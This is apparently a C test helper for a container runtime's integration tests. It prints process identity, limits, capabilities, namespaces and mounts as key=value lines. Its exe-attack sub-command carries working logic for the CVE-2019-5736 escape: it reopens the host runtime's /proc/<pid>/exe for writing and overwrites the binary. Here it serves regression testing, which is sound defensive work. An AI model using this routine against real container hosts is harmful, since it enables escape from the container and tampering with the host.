/*
 * checker: a tiny static program run inside test containers.  It prints what
 * the process sees about itself as "key=value" lines, one per line, so that
 * the integration tests can compare it with config.json.
 *
 *   checker [all]   ids, umask, rlimits, uts, cwd, nnp, oom, caps, seccomp, ns
 *   checker ids     uid gid euid egid groups
 *   checker umask   umask (4 octal digits)
 *   checker rlimits rlimit.<NAME>=soft:hard ("unlimited" for RLIM_INFINITY)
 *   checker uts     hostname domainname
 *   checker cwd     cwd
 *   checker nnp     no_new_privs
 *   checker oom     oom_score_adj
 *   checker caps    CapInh CapPrm CapEff CapBnd CapAmb (hex, from /proc/self/status)
 *   checker seccomp seccomp (mode, from /proc/self/status)
 *   checker ns      ns.<name>=<inode> for each entry of /proc/self/ns
 *   checker pid     pid ppid
 *   checker tty     isatty.0/1/2, tty.rows, tty.cols (of fd 0, when a tty)
 *   checker mounts  mount=<mount point> <fstype> <per-mount options> per mount
 *   checker env     env=<NAME=value> per variable
 *   checker snoop DIR  spy on joining runtime processes until DIR/stop (snoop.c)
 *   checker exe-attack COMM DIR
 *                   plays CVE-2019-5736: finds a process named COMM (the
 *                   runtime), tries to open its /proc/<pid>/exe for writing,
 *                   keeps an O_PATH fd of it, creates DIR/holding, waits for
 *                   DIR/trigger, then reopens the fd for writing (retrying
 *                   while "Text file busy") and writes "PWNED" into it.
 *                   Writes what happened to DIR/result (then exits).
 *
 * Several sub-commands may be given; they are printed in order.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <unistd.h>

#include "snoop.h"

extern char **environ;

static void print_ids(void)
{
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);

	printf("uid=%u\ngid=%u\neuid=%u\negid=%u\n", (unsigned)getuid(), (unsigned)getgid(),
	       (unsigned)geteuid(), (unsigned)getegid());
	printf("groups=");
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", (unsigned)groups[i]);
	printf("\n");
}

static void print_umask(void)
{
	mode_t m = umask(0);

	umask(m);
	printf("umask=%04o\n", (unsigned)m);
}

static const struct {
	const char *name;
	int resource;
} rlimits[] = {
	{ "CPU", RLIMIT_CPU },		 { "FSIZE", RLIMIT_FSIZE },
	{ "DATA", RLIMIT_DATA },	 { "STACK", RLIMIT_STACK },
	{ "CORE", RLIMIT_CORE },	 { "RSS", RLIMIT_RSS },
	{ "NPROC", RLIMIT_NPROC },	 { "NOFILE", RLIMIT_NOFILE },
	{ "MEMLOCK", RLIMIT_MEMLOCK },	 { "AS", RLIMIT_AS },
	{ "LOCKS", RLIMIT_LOCKS },	 { "SIGPENDING", RLIMIT_SIGPENDING },
	{ "MSGQUEUE", RLIMIT_MSGQUEUE }, { "NICE", RLIMIT_NICE },
	{ "RTPRIO", RLIMIT_RTPRIO },	 { "RTTIME", RLIMIT_RTTIME },
};

static void print_rlim_value(rlim_t v)
{
	if (v == RLIM_INFINITY)
		printf("unlimited");
	else
		printf("%llu", (unsigned long long)v);
}

static void print_rlimits(void)
{
	for (size_t i = 0; i < sizeof(rlimits) / sizeof(rlimits[0]); i++) {
		struct rlimit rl;

		if (getrlimit(rlimits[i].resource, &rl) < 0)
			continue;
		printf("rlimit.%s=", rlimits[i].name);
		print_rlim_value(rl.rlim_cur);
		printf(":");
		print_rlim_value(rl.rlim_max);
		printf("\n");
	}
}

static void print_uts(void)
{
	struct utsname u;

	if (uname(&u) == 0)
		printf("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
}

static void print_cwd(void)
{
	char buf[PATH_MAX];

	if (getcwd(buf, sizeof(buf)))
		printf("cwd=%s\n", buf);
	else
		printf("cwd=error:%s\n", strerror(errno));
}

static void print_nnp(void)
{
	printf("no_new_privs=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
}

static void print_file_value(const char *key, const char *path)
{
	char buf[256];
	FILE *f = fopen(path, "re");

	if (!f) {
		printf("%s=error:%s\n", key, strerror(errno));
		return;
	}
	if (fgets(buf, sizeof(buf), f)) {
		buf[strcspn(buf, "\n")] = '\0';
		printf("%s=%s\n", key, buf);
	}
	fclose(f);
}

/* Print "key=value" for each /proc/self/status field named in fields. */
static void print_status_fields(const char *const *fields)
{
	char line[512];
	FILE *f = fopen("/proc/self/status", "re");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char *colon = strchr(line, ':');
		char *value;

		if (!colon)
			continue;
		*colon = '\0';
		value = colon + 1;
		value += strspn(value, " \t");
		value[strcspn(value, "\n")] = '\0';
		for (const char *const *p = fields; *p; p++) {
			if (strcmp(line, *p) == 0) {
				const char *key = strcmp(*p, "Seccomp") == 0 ? "seccomp" : *p;

				printf("%s=%s\n", key, value);
			}
		}
	}
	fclose(f);
}

static void print_caps(void)
{
	static const char *const fields[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL };

	print_status_fields(fields);
}

static void print_seccomp(void)
{
	static const char *const fields[] = { "Seccomp", NULL };

	print_status_fields(fields);
}

static void print_ns(void)
{
	static const char *const names[] = { "cgroup", "ipc",  "mnt",  "net",
					     "pid",    "time", "user", "uts" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[64];
		struct stat st;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		if (stat(path, &st) == 0)
			printf("ns.%s=%llu\n", names[i], (unsigned long long)st.st_ino);
	}
}

static void print_pid(void)
{
	printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid());
}

static void print_tty(void)
{
	struct winsize ws;

	for (int fd = 0; fd <= 2; fd++)
		printf("isatty.%d=%d\n", fd, isatty(fd));
	if (ioctl(0, TIOCGWINSZ, &ws) == 0)
		printf("tty.rows=%u\ntty.cols=%u\n", ws.ws_row, ws.ws_col);
}

/* mountinfo: id parent major:minor root mountpoint options [optional...] - fstype source superoptions */
static void print_mounts(void)
{
	char line[4096];
	FILE *f = fopen("/proc/self/mountinfo", "re");

	if (!f) {
		printf("mounts=error:%s\n", strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char *fields[16];
		int n = 0;
		char *save = NULL;
		char *sep;

		for (char *tok = strtok_r(line, " \n", &save); tok && n < 16;
		     tok = strtok_r(NULL, " \n", &save))
			fields[n++] = tok;
		if (n < 7)
			continue;
		sep = NULL;
		for (int i = 6; i < n; i++) {
			if (strcmp(fields[i], "-") == 0 && i + 1 < n) {
				sep = fields[i + 1];
				break;
			}
		}
		printf("mount=%s %s %s\n", fields[4], sep ? sep : "?", fields[5]);
	}
	fclose(f);
}

static void print_env(void)
{
	for (char **e = environ; e && *e; e++)
		printf("env=%s\n", *e);
}

static void print_all(void)
{
	print_ids();
	print_umask();
	print_rlimits();
	print_uts();
	print_cwd();
	print_nnp();
	print_file_value("oom_score_adj", "/proc/self/oom_score_adj");
	print_caps();
	print_seccomp();
	print_ns();
	print_pid();
}

/* Send READY=1 to $NOTIFY_SOCKET, as sd_notify() does. */
static void send_ready(void)
{
	const char *path = getenv("NOTIFY_SOCKET");
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int s;

	if (!path || strlen(path) >= sizeof(a.sun_path)) {
		printf("notify=no-socket\n");
		return;
	}
	strcpy(a.sun_path, path);
	s = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (s < 0 || sendto(s, "READY=1", 7, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		printf("notify=error:%s\n", strerror(errno));
	else
		printf("notify=sent\n");
	if (s >= 0)
		close(s);
}

static void *volatile alloc_head;
static pid_t find_comm(const char *comm)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t found = 0;
	char path[64], buf[64];

	while (d && !found && (e = readdir(d))) {
		pid_t pid = (pid_t)atoi(e->d_name);
		FILE *f;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
		f = fopen(path, "re");
		if (f && fgets(buf, sizeof(buf), f)) {
			buf[strcspn(buf, "\n")] = 0;
			if (strcmp(buf, comm) == 0)
				found = pid;
		}
		if (f)
			fclose(f);
	}
	if (d)
		closedir(d);
	return found;
}

static void touch(const char *dir, const char *name, const char *text)
{
	char path[PATH_MAX];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s.tmp", dir, name);
	f = fopen(path, "we");
	if (!f)
		return;
	fputs(text, f);
	fclose(f);
	char final[PATH_MAX];
	snprintf(final, sizeof(final), "%s/%s", dir, name);
	rename(path, final);
}

/* Bounded polling: the test gives up long before (no timed assertion). */
static int exe_attack(const char *comm, const char *dir)
{
	char res[4096] = "", path[PATH_MAX], exe[64];
	size_t n = 0;
	pid_t pid = 0;
	int fd, w, i;

	for (i = 0; i < 60000 && !(pid = find_comm(comm)); i++)
		usleep(2000);
	if (!pid) {
		touch(dir, "result", "target: not found\n");
		return 1;
	}
	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)pid);
	w = open(exe, O_WRONLY | O_CLOEXEC);
	n += snprintf(res + n, sizeof(res) - n, "write-open: %s\n", w >= 0 ? "ok" : strerror(errno));
	if (w >= 0)
		close(w);
	fd = open(exe, O_PATH | O_CLOEXEC);
	n += snprintf(res + n, sizeof(res) - n, "o_path: %s\n", fd >= 0 ? "ok" : strerror(errno));
	touch(dir, "holding", res);
	snprintf(path, sizeof(path), "%s/trigger", dir);
	for (i = 0; i < 60000 && access(path, F_OK) < 0; i++)
		usleep(2000);
	if (fd >= 0) {
		char self[64];

		snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
		for (i = 0; i < 5000; i++) {
			w = open(self, O_WRONLY | O_CLOEXEC);
			if (w >= 0 || errno != ETXTBSY)
				break;
			usleep(2000);
		}
		n += snprintf(res + n, sizeof(res) - n, "reopen: %s\n", w >= 0 ? "ok" : strerror(errno));
		if (w >= 0) {
			if (pwrite(w, "PWNED", 5, 0) == 5)
				n += snprintf(res + n, sizeof(res) - n, "wrote\n");
			close(w);
		}
	}
	touch(dir, "result", res);
	return 0;
}

static const struct {
	const char *name;
	void (*fn)(void);
} commands[] = {
	{ "notify", send_ready },
	{ "all", print_all },	  { "ids", print_ids },		{ "umask", print_umask },
	{ "rlimits", print_rlimits }, { "uts", print_uts },	{ "cwd", print_cwd },
	{ "nnp", print_nnp },	  { "caps", print_caps },	{ "seccomp", print_seccomp },
	{ "ns", print_ns },	  { "pid", print_pid },		{ "tty", print_tty },
	{ "mounts", print_mounts }, { "env", print_env },
};

int main(int argc, char **argv)
{
	if (argc < 2) {
		print_all();
		return 0;
	}
	if (strcmp(argv[1], "exe-attack") == 0 && argc == 4)
		return exe_attack(argv[2], argv[3]);
	for (int i = 1; i < argc; i++) {
		size_t j;

		if (strcmp(argv[i], "alloc") == 0) {
			/* touch memory 1 MiB at a time until the OOM killer ends us
			 * (gives up after 8 GiB) */
			for (int mb = 0; mb < 8192; mb++) {
				char *p = malloc(1 << 20);

				if (!p)
					return 3;
				memset(p, 1, 1 << 20);
				/* keep it reachable: the compiler may not drop it */
				*(void **)p = alloc_head;
				alloc_head = p;
			}
			return 3;
		}
		if (strcmp(argv[i], "snoop") == 0 && i + 1 < argc)
			return checker_snoop(argv[i + 1]);
		if (strcmp(argv[i], "oom") == 0) {
			print_file_value("oom_score_adj", "/proc/self/oom_score_adj");
			continue;
		}
		for (j = 0; j < sizeof(commands) / sizeof(commands[0]); j++) {
			if (strcmp(argv[i], commands[j].name) == 0) {
				commands[j].fn();
				break;
			}
		}
		if (j == sizeof(commands) / sizeof(commands[0])) {
			fprintf(stderr, "checker: unknown sub-command '%s'\n", argv[i]);
			return 2;
		}
	}
	return fflush(stdout) == 0 ? 0 : 1;
}
